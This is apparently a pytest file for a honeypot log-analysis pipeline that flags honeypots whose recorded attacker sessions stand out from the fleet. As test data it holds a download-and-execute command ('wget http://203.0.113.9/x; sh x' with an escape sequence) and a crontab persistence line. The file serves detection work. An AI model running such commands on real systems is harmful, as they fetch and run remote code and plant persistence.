"""Excerpts: rustbuckets that stand out, why, on which rows; and the registry's view of them."""

from itertools import product

from sqlalchemy import Engine, text

from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.excerpts import MOST_EXCERPTS
from rustbucket_pipeline.analysis.page import Excerpt
from rustbucket_pipeline.analysis.report import build_analysis
from rustbucket_pipeline.analysis.stored import stored_report
from rustbucket_pipeline.settings import Settings
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, event, fleet, session, tell

USUAL = [event("connection", at, rustbucket_id=f"BKT{number}") for number in (1, 2, 3) for at in range(5)]
FETCH = "wget http://203.0.113.9/x; sh x \x1b[2J"


def excerpts(database: Engine, settings: Settings) -> tuple[Excerpt, ...]:
    build_digest(database, WINDOW, NOW, None)
    build_analysis(database, settings, WINDOW, NOW, None)
    with database.connect() as connection:
        report = stored_report(connection, WINDOW)
    assert report is not None
    return report.excerpts


def test_where_all_do_the_same_nobody_stands_out(database: Engine, settings: Settings) -> None:
    tell(database, USUAL)
    assert excerpts(database, settings) == ()


def test_a_rustbucket_alone_has_nothing_to_stand_out_from(database: Engine, settings: Settings) -> None:
    tell(database, [command(FETCH)])
    assert excerpts(database, settings) == ()


def test_what_only_one_saw_makes_it_stand_out_with_its_words_and_rows(database: Engine, settings: Settings) -> None:
    tell(database, [*USUAL, command(FETCH, rustbucket_id="BKT2")])
    row = session(database, FETCH, rustbucket="BKT2")
    (excerpt,) = excerpts(database, settings)
    assert (excerpt.rustbucket, excerpt.severity, excerpt.events) == ("BKT2", "high", 6)
    assert excerpt.findings == ("F1",)
    assert excerpt.clusters == ("C1",)
    assert [(quote.cluster, quote.row, quote.text) for quote in excerpt.quotes] == [("C1", row, FETCH)]
    assert excerpt.reasons == ("found here only: F1", "new severe behaviours seen here only: 1")
    assert excerpt.text.startswith("BKT2 stands out (high): found here only: F1;")
    assert all(line.isprintable() for line in excerpt.text.splitlines())


def test_far_more_events_than_the_others_stand_out_too(database: Engine, settings: Settings) -> None:
    tell(database, [*USUAL, *(event("connection", at, rustbucket_id="BKT3") for at in range(10, 115))])
    (excerpt,) = excerpts(database, settings)
    assert (excerpt.rustbucket, excerpt.severity, excerpt.by_type) == ("BKT3", "info", {"connection": 110})
    assert excerpt.reasons == ("22.0 times the events that half of the rustbuckets have at most",)


def test_a_fleet_of_oddities_is_told_of_by_its_worst(database: Engine, settings: Settings) -> None:
    verbs = ("whoami", "nproc", "uptime", "last", "pwd")
    for number, (first, then) in enumerate(product(verbs, verbs), start=1):
        session(database, first, then, "(crontab -l; echo run) | crontab -", rustbucket=f"BKT{number}")
    tell(database, [event("connection", rustbucket_id=f"BKT{number}") for number in range(1, 26)])
    found = excerpts(database, settings)
    assert len(found) == MOST_EXCERPTS
    assert {excerpt.severity for excerpt in found} == {"high"}


def test_readers_of_the_registry_get_a_row_for_each(database: Engine, settings: Settings) -> None:
    fleet(database, "BKT1", "BKT2", "BKT3")
    tell(database, [*USUAL, command(FETCH, rustbucket_id="BKT2")])
    (excerpt,) = excerpts(database, settings)
    with database.connect() as connection:
        rows = connection.execute(text("SELECT id, name, ip_address, log_analysis FROM log_analysis ORDER BY id")).all()
        (headline,) = connection.execute(text("SELECT summary FROM reports WHERE newest")).scalars()
    start = int(WINDOW.start.timestamp())
    assert rows == [(start, "fleet", None, headline), (start + 1, "BKT2", None, excerpt.text)]
